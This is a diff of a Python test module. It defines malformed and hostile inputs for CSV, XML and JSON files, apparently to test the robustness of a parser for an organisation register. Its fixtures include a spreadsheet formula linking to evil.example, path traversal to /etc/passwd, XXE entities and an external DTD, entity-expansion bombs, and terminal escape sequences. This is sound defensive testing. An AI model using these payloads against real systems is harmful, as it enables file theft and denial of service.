@@ -1,4 +1,4 @@
-"""Ways in which a published file comes to harm: cut, in another encoding, mixed up, swollen, written by somebody hostile."""
+"""Ways in which a published file comes to harm: cut, in another encoding, mixed up, written by somebody hostile."""
 
 from __future__ import annotations
 
@@ -142,7 +142,7 @@ OF_TABLES: dict[str, Harm] = {
     "a mark of direction": _last_cell("SUR\u200fGERY"),
     "a line's separator": _last_cell("SUR\u2028GERY"),
     "a letter beyond": _last_cell("SUR\U000e0041GERY"),
-    "a formula": _last_cell("=HYPERLINK(\"http://evil.example\",\"SURGERY\")"),
+    "a formula": _last_cell('=HYPERLINK("http://evil.example","SURGERY")'),
     "a formula as its code": _last_cell("=1+1", 0),
     "a code in letters that look the same": _last_cell("G8200\u0663", 0),
     "a path as its code": _last_cell("../../../etc/passwd", 0),
@@ -154,30 +154,40 @@ OF_TABLES: dict[str, Harm] = {
     "days that are still to come": _with_days("2027-12-31"),
     "days with the month first": _with_days("12/31/2025"),
     "days before all": _with_days("1801-01-01"),
-}  # fmt: skip
+}
 """Harm to a table of comma-separated values."""
 
 OF_XML: dict[str, Harm] = {
-    "an entity of its own": lambda raw: raw.replace(b"?>", b'?><!DOCTYPE x [<!ENTITY a "aaaa">]>', 1).replace(b"THE LIMES", b"&a;"),
+    "an entity of its own": lambda raw: raw.replace(b"?>", b'?><!DOCTYPE x [<!ENTITY a "aaaa">]>', 1).replace(
+        b"THE LIMES", b"&a;"
+    ),
     "entities in one another": lambda raw: raw.replace(
         b"?>", b'?><!DOCTYPE x [<!ENTITY a "aa"><!ENTITY b "&a;&a;"><!ENTITY c "&b;&b;">]>', 1
     ).replace(b"THE LIMES", b"&c;"),
     "a file as an entity": lambda raw: raw.replace(
         b"?>", b'?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>', 1
     ).replace(b"THE LIMES", b"&a;"),
-    "a DTD elsewhere": lambda raw: raw.replace(b"?>", b'?><!DOCTYPE x SYSTEM "http://evil.example/x.dtd">', 1).replace(
-        b"THE LIMES", b"THE &limes; LIMES"
+    "a DTD elsewhere": lambda raw: raw.replace(
+        b"?>", b'?><!DOCTYPE x SYSTEM "http://evil.example/x.dtd">', 1
+    ).replace(b"THE LIMES", b"THE &limes; LIMES"),
+    "elements without end": lambda raw: raw.replace(
+        b"<Organisations>", b"<Organisations>" + b"<a>" * 100_000
     ),
-    "elements without end": lambda raw: raw.replace(b"<Organisations>", b"<Organisations>" + b"<a>" * 100_000),
     "an attribute of a million letters": lambda raw: raw.replace(b'refOnly="', b"").replace(
         b'orgRecordClass="RC1"', b'orgRecordClass="' + b"R" * 1_000_000 + b'"', 1
     ),
     "a text of a million letters": lambda raw: raw.replace(b"THE LIMES", b"X" * 1_000_000),
-    "a number of records that is none": lambda raw: raw.replace(b'RecordCount value="7"', 'RecordCount value="²"'.encode()),
-    "a number of records without end": lambda raw: raw.replace(b'RecordCount value="7"', b'RecordCount value="' + b"7" * 9000 + b'"'),
+    "a number of records that is none": lambda raw: raw.replace(
+        b'RecordCount value="7"', 'RecordCount value="²"'.encode()
+    ),
+    "a number of records without end": lambda raw: raw.replace(
+        b'RecordCount value="7"', b'RecordCount value="' + b"7" * 9000 + b'"'
+    ),
     "another number of records": lambda raw: raw.replace(b'RecordCount value="7"', b'RecordCount value="70"'),
-    "no body at all": lambda raw: raw[: raw.index(b"<Organisation ")].replace(b'value="7"', b'value="0"')
-    + b"</Organisations></HSCOrgRefData:OrgRefData>",
+    "no body at all": lambda raw: (
+        raw[: raw.index(b"<Organisation ")].replace(b'value="7"', b'value="0"')
+        + b"</Organisations></HSCOrgRefData:OrgRefData>"
+    ),
     "an element never closed": lambda raw: raw.replace(b"</Name>", b"", 1),
     "rubbish behind its end": lambda raw: raw + b"<more/>",
     "an order to a terminal": lambda raw: raw.replace(b"THE LIMES", "\x9b2J".encode()),
@@ -186,28 +196,34 @@ OF_XML: dict[str, Harm] = {
     "a target of such letters": lambda raw: raw.replace(b'extension="91Q"', 'extension="\u202e91Q"'.encode()),
     "a role without end": lambda raw: raw.replace(b'id="RO76"', b'id="' + b"R" * 100_000 + b'"'),
     "no day of publication": lambda raw: raw.replace(b"<PublicationDate", b"<Elsewhen"),
-    "a day of publication to come": lambda raw: raw.replace(b'PublicationDate value="2025', b'PublicationDate value="2099'),
+    "a day of publication to come": lambda raw: raw.replace(
+        b'PublicationDate value="2025', b'PublicationDate value="2099'
+    ),
     "days of 2099": lambda raw: raw.replace(b'Start value="2020-04-01"', b'Start value="2099-04-01"'),
     "days that are none": lambda raw: raw.replace(b'Start value="2020-04-01"', b'Start value="2020-02-31"'),
     "closed before it opened": lambda raw: raw.replace(b'End value="2025-12-31"', b'End value="2019-12-31"'),
     "a body twice": lambda raw: raw.replace(b"G82002", b"G82001"),
     "a code in lower case": lambda raw: raw.replace(b"G82002", b"g82002"),
-    "a comment with a body": lambda raw: raw.replace(b"</Organisation>\n", b"</Organisation>\n<!--<Organisation>-->\n", 1),
+    "a comment with a body": lambda raw: raw.replace(
+        b"</Organisation>\n", b"</Organisation>\n<!--<Organisation>-->\n", 1
+    ),
     "an encoding that is none": lambda raw: raw.replace(b"UTF-8", b"X-EVIL"),
     "UTF-7": lambda raw: raw.replace(b"UTF-8", b"UTF-7"),
-}  # fmt: skip
+}
 """Harm to the register in XML."""
 
 OF_JSON: dict[str, Harm] = {
     "brackets without end": lambda raw: b"[" * 200_000,
     "braces without end": lambda raw: b'{"a":' * 200_000,
-    "a number without end": lambda raw: raw.replace(b'"name"', b'"number": ' + b"9" * 9000 + b', "name"').replace(
-        b'"Name"', b'"Number": ' + b"9" * 9000 + b', "Name"'
-    ),
+    "a number without end": lambda raw: raw.replace(
+        b'"name"', b'"number": ' + b"9" * 9000 + b', "name"'
+    ).replace(b'"Name"', b'"Number": ' + b"9" * 9000 + b', "Name"'),
     "numbers that are none": lambda raw: raw.replace(b'"name"', b'"x": NaN, "y": 1e999, "name"').replace(
         b'"Name"', b'"x": NaN, "y": -Infinity, "Name"'
     ),
-    "a key twice": lambda raw: raw.replace(b'"name":', b'"name": "OTHER", "name":').replace(b'"Name":', b'"Name": "OTHER", "Name":'),
+    "a key twice": lambda raw: raw.replace(b'"name":', b'"name": "OTHER", "name":').replace(
+        b'"Name":', b'"Name": "OTHER", "Name":'
+    ),
     "a number for a name": lambda raw: _renamed(raw, b"12"),
     "a list for a name": lambda raw: _renamed(raw, b"[[]]"),
     "half a letter": lambda raw: _renamed(raw, b'"\\ud800"'),
@@ -229,7 +245,7 @@ OF_JSON: dict[str, Harm] = {
     "null": lambda raw: b"null",
     "its lines in UTF-16": lambda raw: raw.decode().encode("utf-16"),
     "with a mark of order": lambda raw: b"\xef\xbb\xbf" + raw,
-}  # fmt: skip
+}
 """Harm to JSON."""
 
 
